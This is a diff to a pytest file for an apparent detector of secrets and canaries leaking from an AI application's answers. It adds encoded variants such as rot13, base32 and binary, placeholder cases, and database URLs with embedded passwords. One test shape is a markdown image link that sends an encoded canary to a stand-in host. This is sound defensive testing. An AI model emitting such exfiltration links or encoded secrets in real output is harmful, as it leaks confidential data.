@@ -1,6 +1,7 @@
 """What an answer gives away: secrets, canaries and the application's own words, plain and encoded."""
 
 import base64
+import codecs
 import random
 import time
 from collections.abc import Sequence
@@ -36,6 +37,12 @@ SHAPES = {
     "base64 in more": base64.b64encode(b"here it is: " + CANARY.encode() + b", take it").decode(),
     "hex": CANARY.encode().hex(),
     "percent": "".join(f"%{byte:02x}" for byte in CANARY.encode()),
+    "rot13": codecs.encode(CANARY, "rot13"),
+    "rot13 backwards": codecs.encode(CANARY, "rot13")[::-1],
+    "decimal codes": " ".join(str(byte) for byte in CANARY.encode()),
+    "binary": " ".join(f"{byte:08b}" for byte in CANARY.encode()),
+    "base32": base64.b32encode(f"x {CANARY}".encode()).decode(),
+    "base32 in more": base64.b32encode(b"here it is: " + CANARY.encode() + b", take it").decode(),
     "base64 of hex": base64.b64encode(CANARY.encode().hex().encode()).decode(),
     "in a link": f"![x](https://e.example/?q={base64.urlsafe_b64encode(CANARY.encode()).decode()})",
 }
@@ -55,14 +62,28 @@ def test_words_like_a_canary_pass(text: str) -> None:
 
 @pytest.mark.parametrize(
     "text",
-    [SECRET, base64.b64encode(f"key {SECRET}".encode()).decode(), SECRET.encode().hex(), f"?q={SECRET}", SECRET[::-1]],
-    ids=["plain", "base64", "hex", "in an address", "backwards"],
+    [
+        *(SECRET, base64.b64encode(f"key {SECRET}".encode()).decode(), SECRET.encode().hex(), f"?q={SECRET}"),
+        *(SECRET[::-1], codecs.encode(SECRET, "rot13"), " ".join(SECRET), ", ".join(SECRET), ".".join(SECRET)),
+    ],
+    ids=["plain", "base64", "hex", "in an address", "backwards", "rot13", "spaced", "listed", "dotted"],
 )
 def test_a_secret_is_found_plain_and_encoded(text: str) -> None:
     assert "exfiltration.secret" in kinds(f"look: {text} ")
 
 
-@pytest.mark.parametrize("text", ["AKIAIOSFODNN7EXAMPLE", "export KEY=YOUR_API_KEY_HERE", "commit 3f2a9c81d4"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            "AKIAIOSFODNN7EXAMPLE",
+            "export KEY=YOUR_API_KEY_HERE",
+            "commit 3f2a9c81d4",
+            " ".join("ABCDEFGHIJKLMNOPQRSTUVWX"),
+        ),
+        *("1 2 3 4 5 6 7 8 9 1 2 3 4 5 6 7 8 9", "the rot13 of 'hello, my dear friend' is uryyb,_zl_qrne_sevraq"),
+    ],
+)
 def test_placeholders_and_hashes_are_no_secrets(text: str) -> None:
     assert kinds(text) == []
 
@@ -123,3 +144,29 @@ def test_random_and_huge_texts_take_bounded_time() -> None:
     for text in texts:
         judged(plan, text)
     assert time.process_time() - started_s < 30
+
+
+@pytest.mark.parametrize(
+    ("address", "is_one"),
+    [
+        ("postgresql://app:app@db:5432/app", False),
+        ("postgres://me:mypassword@localhost:5432/mydb", False),
+        ("redis://:s3cr3tpw@redis:6379/0", False),
+        ("https://user:hunter2@api.example.com/", False),
+        ("mysql://wp:wp2024@127.0.0.1/wp", False),
+        ("postgres://app:Xk29vPq7Lz@db:5432/app", True),
+        ("mysql://wp:wp2024@shop.somebody.io/wp", True),
+    ],
+)
+def test_a_password_in_an_address_counts_unless_it_is_there_for_show(address: str, is_one: bool) -> None:
+    """Tutorials are full of them; a random one, or one for a real host, is nobody's example."""
+    assert ("exfiltration.secret" in kinds(f"DATABASE_URL={address}")) is is_one
+
+
+@pytest.mark.parametrize("text", ["a, " * 21_000 + "ab", "a." * 32_000 + "ab", "a " * 32_000 + "ab", "a|a, " * 13_000])
+def test_letters_apart_take_bounded_time(text: str) -> None:
+    check = ExfiltrationCheck()
+    check.inspect(Excerpt("x"))
+    started_s = time.process_time()
+    check.inspect(Excerpt(text, code=True))
+    assert time.process_time() - started_s < 1
